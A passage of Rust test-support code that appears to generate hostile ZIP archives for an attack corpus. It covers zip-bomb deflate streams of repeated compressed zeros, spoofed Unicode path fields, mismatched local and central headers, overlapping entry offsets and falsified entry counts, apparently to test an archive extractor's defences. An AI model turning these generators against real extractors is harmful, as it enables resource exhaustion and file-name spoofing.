                method,
                crc32,
                uncompressed_size: size,
                flags: 1 << 11,
                external_attributes: 0o100_644 << 16,
                central_extra: Vec::new(),
                local: LocalTweaks::default(),
                local_offset: None,
                descriptor: None,
            }
        }

        /// A stored entry.
        pub fn stored(name: &str, data: &[u8]) -> Self {
            Self::new(
                name,
                Body::Bytes(data.to_vec()),
                0,
                crc32fast::hash(data),
                data.len() as u64,
            )
        }

        /// A deflated entry.
        pub fn deflated(name: &str, data: &[u8]) -> Self {
            let mut enc =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            // Writing to a Vec cannot fail.
            let _ = enc.write_all(data);
            let compressed = enc.finish().unwrap_or_default();
            Self::new(
                name,
                Body::Bytes(compressed),
                8,
                crc32fast::hash(data),
                data.len() as u64,
            )
        }

        /// A folder entry.
        pub fn dir(name: &str) -> Self {
            let mut e = Self::stored(name, b"");
            e.external_attributes = 0o040_755 << 16;
            e
        }

        /// A stored entry with a streamed body.
        pub fn stored_body(name: &str, body: Body) -> Self {
            let len = body.len().unwrap_or(0);
            let crc = body.crc32().unwrap_or(0);
            Self::new(name, body, 0, crc, len)
        }

        /// A stored entry whose data is the file at `path`.
        pub fn stored_file(name: &str, path: &Path) -> io::Result<Self> {
            let body = Body::File(path.to_path_buf());
            let len = body.len()?;
            let crc = body.crc32()?;
            Ok(Self::new(name, body, 0, crc, len))
        }

        /// A deflated entry whose data is the file at `path`, compressed
        /// streaming into `<path>.deflate` (which the entry then reads). Runs
        /// of zeros are emitted as a precompressed block, the rest as stored
        /// blocks, so a mostly-zero file of hundreds of MiB compresses in
        /// moments even in a debug build.
        pub fn deflated_file(name: &str, path: &Path) -> io::Result<Self> {
            const CHUNK: usize = 64 * 1024;
            let out_path = path.with_extension("deflate");
            let mut out = BufWriter::new(File::create(&out_path)?);
            let zeros = vec![0u8; CHUNK];
            let compressed_zeros = super::full_flushed(&zeros)?;
            let mut crc = crc32fast::Hasher::new();
            let mut f = File::open(path)?;
            let mut buf = vec![0u8; CHUNK];
            let mut len = 0u64;
            loop {
                let mut n = 0;
                while n < CHUNK {
                    let k = f.read(&mut buf[n..])?;
                    if k == 0 {
                        break;
                    }
                    n += k;
                }
                if n == 0 {
                    break;
                }
                let chunk = &buf[..n];
                crc.update(chunk);
                len += n as u64;
                if n == CHUNK && chunk.iter().all(|b| *b == 0) {
                    out.write_all(&compressed_zeros)?;
                } else {
                    super::write_stored_blocks(&mut out, chunk)?;
                }
            }
            out.write_all(&super::FINAL_EMPTY_BLOCK)?;
            out.flush()?;
            Ok(Self::new(
                name,
                Body::File(out_path),
                8,
                crc.finalize(),
                len,
            ))
        }

        /// A deflated entry from a prepared deflate stream.
        /// The stream is written to a file in `dir`.
        pub fn deflated_body(
            name: &str,
            stream: super::DeflateStream,
            dir: &Path,
        ) -> io::Result<Self> {
            let (body, crc, len) = stream.build(dir)?;
            Ok(Self::new(name, body, 8, crc, len))
        }

        /// Sets the Unix mode (type and permission bits) in the external attributes.
        pub fn mode(mut self, mode: u32) -> Self {
            self.external_attributes = mode << 16;
            self
        }

        fn zip64(&self) -> io::Result<bool> {
            Ok(self.uncompressed_size >= U32_MAX || self.body.len()? >= U32_MAX)
        }

        fn flags(&self) -> u16 {
            if self.descriptor.is_some() {
                self.flags | (1 << 3)
            } else {
                self.flags
            }
        }

        /// The local header followed by the body (and descriptor), as bytes.
        pub fn local_header_and_body(&self) -> io::Result<Vec<u8>> {
            let mut out = Vec::new();
            self.write_local(&mut out)?;
            Ok(out)
        }

        fn write_local(&self, out: &mut impl Write) -> io::Result<u64> {
            let zip64 = self.zip64()?;
            let csize = self.local.compressed_size.unwrap_or(self.body.len()?);
            let usize_ = self
                .local
                .uncompressed_size
                .unwrap_or(self.uncompressed_size);
            let name = self.local.name.as_ref().unwrap_or(&self.name);
            let mut extra = Vec::new();
            if zip64 {
                extra.extend_from_slice(&1u16.to_le_bytes());
                extra.extend_from_slice(&16u16.to_le_bytes());
                extra.extend_from_slice(&usize_.to_le_bytes());
                extra.extend_from_slice(&csize.to_le_bytes());
            }
            let mut h = Vec::with_capacity(30 + name.len() + extra.len());
            h.extend_from_slice(&LOCAL_SIGNATURE.to_le_bytes());
            h.extend_from_slice(&(if zip64 { 45u16 } else { 20u16 }).to_le_bytes());
            h.extend_from_slice(&self.flags().to_le_bytes());
            h.extend_from_slice(&self.local.method.unwrap_or(self.method).to_le_bytes());
            h.extend_from_slice(&0u16.to_le_bytes()); // time
            h.extend_from_slice(&0x21u16.to_le_bytes()); // date 1980-01-01
            h.extend_from_slice(&self.local.crc32.unwrap_or(self.crc32).to_le_bytes());
            let (c32, u32_) = if zip64 {
                (U32_MAX as u32, U32_MAX as u32)
            } else {
                (csize as u32, usize_ as u32)
            };
            h.extend_from_slice(&c32.to_le_bytes());
            h.extend_from_slice(&u32_.to_le_bytes());
            h.extend_from_slice(&(name.len() as u16).to_le_bytes());
            h.extend_from_slice(&(extra.len() as u16).to_le_bytes());
            h.extend_from_slice(name);
            h.extend_from_slice(&extra);
            out.write_all(&h)?;
            self.body.write(out)?;
            let mut written = h.len() as u64 + self.body.len()?;
            if let Some(d) = self.descriptor {
                let mut b = Vec::new();
                if d.with_signature {
                    b.extend_from_slice(&DESCRIPTOR_SIGNATURE.to_le_bytes());
                }
                b.extend_from_slice(&d.crc32.to_le_bytes());
                if zip64 {
                    b.extend_from_slice(&self.body.len()?.to_le_bytes());
                    b.extend_from_slice(&self.uncompressed_size.to_le_bytes());
                } else {
                    b.extend_from_slice(&(self.body.len()? as u32).to_le_bytes());
                    b.extend_from_slice(&(self.uncompressed_size as u32).to_le_bytes());
                }
                out.write_all(&b)?;
                written += b.len() as u64;
            }
            Ok(written)
        }

        fn central(&self, offset: u64) -> io::Result<Vec<u8>> {
            let zip64 = self.zip64()?;
            let csize = self.body.len()?;
            let mut extra = Vec::new();
            if zip64 {
                extra.extend_from_slice(&1u16.to_le_bytes());
                extra.extend_from_slice(&16u16.to_le_bytes());
                extra.extend_from_slice(&self.uncompressed_size.to_le_bytes());
                extra.extend_from_slice(&csize.to_le_bytes());
            }
            extra.extend_from_slice(&self.central_extra);
            let mut h = Vec::new();
            h.extend_from_slice(&CENTRAL_SIGNATURE.to_le_bytes());
            h.extend_from_slice(&MADE_BY_UNIX.to_le_bytes());
            h.extend_from_slice(&(if zip64 { 45u16 } else { 20u16 }).to_le_bytes());
            h.extend_from_slice(&self.flags().to_le_bytes());
            h.extend_from_slice(&self.method.to_le_bytes());
            h.extend_from_slice(&0u16.to_le_bytes());
            h.extend_from_slice(&0x21u16.to_le_bytes());
            h.extend_from_slice(&self.crc32.to_le_bytes());
            let (c32, u32_) = if zip64 {
                (U32_MAX as u32, U32_MAX as u32)
            } else {
                (csize as u32, self.uncompressed_size as u32)
            };
            h.extend_from_slice(&c32.to_le_bytes());
            h.extend_from_slice(&u32_.to_le_bytes());
            h.extend_from_slice(&(self.name.len() as u16).to_le_bytes());
            h.extend_from_slice(&(extra.len() as u16).to_le_bytes());
            h.extend_from_slice(&0u16.to_le_bytes()); // comment
            h.extend_from_slice(&0u16.to_le_bytes()); // disk
            h.extend_from_slice(&0u16.to_le_bytes()); // internal attributes
            h.extend_from_slice(&self.external_attributes.to_le_bytes());
            h.extend_from_slice(&(offset as u32).to_le_bytes());
            h.extend_from_slice(&self.name);
            h.extend_from_slice(&extra);
            Ok(h)
        }
    }

    /// An Info-ZIP Unicode path extra field (0x7075) claiming `name` is
    /// really `unicode_name`.
    pub fn unicode_path_extra(name: &[u8], unicode_name: &str) -> Vec<u8> {
        let mut data = vec![1u8];
        data.extend_from_slice(&crc32fast::hash(name).to_le_bytes());
        data.extend_from_slice(unicode_name.as_bytes());
        let mut extra = Vec::new();
        extra.extend_from_slice(&0x7075u16.to_le_bytes());
        extra.extend_from_slice(&(data.len() as u16).to_le_bytes());
        extra.extend_from_slice(&data);
        extra
    }

    /// A whole archive.
    #[derive(Debug, Clone)]
    pub struct RawZip {
        /// Entries in order.
        pub entries: Vec<RawEntry>,
        /// `(i, bytes)`: raw bytes written after entry `i`'s data.
        pub gap_after: Vec<(usize, Vec<u8>)>,
        /// Write a zip64 end record and locator (as some writers always do),
        /// with the 32-bit end record fields saturated.
        pub zip64_end: bool,
        /// An entry count for the 32-bit end record instead of the real one.
        pub end_count_override: Option<u16>,
    }

    struct Counting<W> {
        inner: W,
        pos: u64,
    }
    impl<W: Write> Write for Counting<W> {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            let n = self.inner.write(buf)?;
            self.pos += n as u64;
            Ok(n)
        }
        fn flush(&mut self) -> io::Result<()> {
            self.inner.flush()
        }
    }

    impl RawZip {
        /// An archive of `entries`.
        pub fn new(entries: Vec<RawEntry>) -> Self {
            RawZip {
                entries,
                gap_after: Vec::new(),
                zip64_end: false,
                end_count_override: None,
            }
        }

        /// Bytes before the central directory (local headers, data, gaps).
        pub fn data_size(&self) -> io::Result<u64> {
            let mut sink = Counting {
                inner: io::sink(),
                pos: 0,
            };
            self.write_data(&mut sink)?;
            Ok(sink.pos)
        }

        fn write_data<W: Write>(&self, out: &mut Counting<W>) -> io::Result<Vec<u64>> {
            let mut offsets = Vec::new();
            for (i, e) in self.entries.iter().enumerate() {
                match e.local_offset {
                    Some(o) => offsets.push(o),
                    None => {
                        offsets.push(out.pos);
                        e.write_local(out)?;
                    }
                }
                for (_, gap) in self.gap_after.iter().filter(|(at, _)| *at == i) {
                    out.write_all(gap)?;
                }
            }
            Ok(offsets)
        }

        /// Writes the archive to `path`, streaming.
        pub fn write_to(&self, path: &Path) -> io::Result<()> {
            let mut out = Counting {
                inner: BufWriter::new(File::create(path)?),
                pos: 0,
            };
            let offsets = self.write_data(&mut out)?;
            let cd_start = out.pos;
            for (e, offset) in self.entries.iter().zip(offsets) {
                out.write_all(&e.central(offset)?)?;
            }
            let cd_size = out.pos - cd_start;
            let entries = self.entries.len() as u64;
            let mut end = Vec::new();
            let (count, size32, offset32) = if self.zip64_end {
                let zip64_end_at = out.pos;
                end.extend_from_slice(&ZIP64_EOCD_SIGNATURE.to_le_bytes());
                end.extend_from_slice(&44u64.to_le_bytes()); // size of the rest
                end.extend_from_slice(&MADE_BY_UNIX.to_le_bytes());
                end.extend_from_slice(&45u16.to_le_bytes());
                end.extend_from_slice(&0u32.to_le_bytes()); // this disk
                end.extend_from_slice(&0u32.to_le_bytes()); // directory's disk
                end.extend_from_slice(&entries.to_le_bytes());
                end.extend_from_slice(&entries.to_le_bytes());
                end.extend_from_slice(&cd_size.to_le_bytes());
                end.extend_from_slice(&cd_start.to_le_bytes());
                end.extend_from_slice(&ZIP64_LOCATOR_SIGNATURE.to_le_bytes());
                end.extend_from_slice(&0u32.to_le_bytes());
                end.extend_from_slice(&zip64_end_at.to_le_bytes());
                end.extend_from_slice(&1u32.to_le_bytes()); // disks
                (0xFFFF, U32_MAX as u32, U32_MAX as u32)
            } else {
                (entries as u16, cd_size as u32, cd_start as u32)
            };
            let count = self.end_count_override.unwrap_or(count);
            end.extend_from_slice(&EOCD_SIGNATURE.to_le_bytes());
            end.extend_from_slice(&0u16.to_le_bytes());
            end.extend_from_slice(&0u16.to_le_bytes());
            end.extend_from_slice(&count.to_le_bytes());
            end.extend_from_slice(&count.to_le_bytes());
            end.extend_from_slice(&size32.to_le_bytes());
            end.extend_from_slice(&offset32.to_le_bytes());
            end.extend_from_slice(&0u16.to_le_bytes());
            out.write_all(&end)?;
            out.inner.flush()?;
            out.inner.get_ref().sync_all()
        }
    }
}

/// A raw deflate stream of mostly zeros built without compressing (or
/// holding) the whole payload: one 1 MiB block of zeros is compressed once,
/// ending in a full flush (byte-aligned, dictionary reset), so it can be
/// repeated verbatim. An optional prefix of pseudo-random bytes is written
/// as stored blocks, to tune the compression ratio.
#[derive(Debug, Clone, Copy)]
pub struct DeflateStream {
    zeros: u64,
    random_prefix: u64,
}

impl DeflateStream {
    /// `n` zero bytes.
    pub fn zeros(n: u64) -> Self {
        DeflateStream {
            zeros: n,
            random_prefix: 0,
        }
    }

    /// Precede the zeros with `n` incompressible bytes.
    pub fn with_random_prefix(mut self, n: u64) -> Self {
        self.random_prefix = n;
        self
    }

    /// Writes the stream to a file in `dir`; returns (body, CRC-32, size).
    fn build(self, dir: &Path) -> io::Result<(Body, u32, u64)> {
        use std::io::Write;
        let path = dir.join(format!(
            ".deflate-{}-{}.part",
            self.zeros, self.random_prefix
        ));
        let mut out = io::BufWriter::new(fs::File::create(&path)?);
        let mut crc = crc32fast::Hasher::new();

        // Stored blocks of pseudo-random bytes (each at most 65535 bytes).
        let mut state = 0x9E37_79B9_7F4A_7C15u64;
        let mut left = self.random_prefix;
        let mut block = vec![0u8; 65_535];
        while left > 0 {
            let n = left.min(65_535) as usize;
            for b in block.iter_mut().take(n) {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                *b = state as u8;
            }
            write_stored_blocks(&mut out, &block[..n])?;
            crc.update(&block[..n]);
            left -= n as u64;
        }

        // Zeros: one compressed, full-flushed 1 MiB block, repeated.
        let chunk = vec![0u8; MIB as usize];
        let compressed_chunk = full_flushed(&chunk)?;
        let mut chunk_crc = crc32fast::Hasher::new();
        chunk_crc.update(&chunk);
        for _ in 0..self.zeros / MIB {
            out.write_all(&compressed_chunk)?;
            crc.combine(&chunk_crc);
        }
        let rest = (self.zeros % MIB) as usize;
        if rest > 0 {
            out.write_all(&full_flushed(&chunk[..rest])?)?;
            crc.update(&chunk[..rest]);
        }
        out.write_all(&FINAL_EMPTY_BLOCK)?;
        out.flush()?;
        Ok((
            Body::File(path),
            crc.finalize(),
            self.random_prefix + self.zeros,
        ))
    }
}

/// A final, empty fixed-Huffman block: BFINAL=1, BTYPE=01, end-of-block.
const FINAL_EMPTY_BLOCK: [u8; 2] = [0x03, 0x00];

/// `data` as non-final stored deflate blocks (the stream must be at a byte
/// boundary, which it is after a full flush or another stored block).
fn write_stored_blocks(out: &mut impl io::Write, data: &[u8]) -> io::Result<()> {
    for block in data.chunks(65_535) {
        let n = block.len() as u16;
        out.write_all(&[0u8])?; // BFINAL=0, BTYPE=00
        out.write_all(&n.to_le_bytes())?;
        out.write_all(&(!n).to_le_bytes())?;
        out.write_all(block)?;
    }
    Ok(())
}

/// `data` compressed as raw deflate ending in a full flush, checked to be
/// position-independent (the same bytes when compressed a second time in the
/// same stream), so it can be repeated.
fn full_flushed(data: &[u8]) -> io::Result<Vec<u8>> {
    let mut c = flate2::Compress::new(flate2::Compression::best(), false);
    let once = |c: &mut flate2::Compress| -> io::Result<Vec<u8>> {
        let mut out = Vec::with_capacity(data.len() / 100 + 1024);
        let start_in = c.total_in();
        loop {
            let consumed = (c.total_in() - start_in) as usize;
            let input = &data[consumed..];
            if out.capacity() - out.len() < 64 {
                out.reserve(4096);
            }
            let before_out = c.total_out();
            c.compress_vec(input, &mut out, flate2::FlushCompress::Full)
                .map_err(io::Error::other)?;
            let done_in = (c.total_in() - start_in) as usize == data.len();
            if done_in && c.total_out() == before_out && out.capacity() - out.len() >= 64 {
                return Ok(out);
            }
        }
    };
    let first = once(&mut c)?;
    let second = once(&mut c)?;
    if first != second {
        return Err(io::Error::other(
            "the deflate encoder is not position-independent after a full flush",
        ));
    }
    Ok(first)
}

/// The package file names of every attack, for listings.
pub fn attack_names() -> Vec<&'static str> {
    corpus().iter().map(|a| a.name).collect()
}
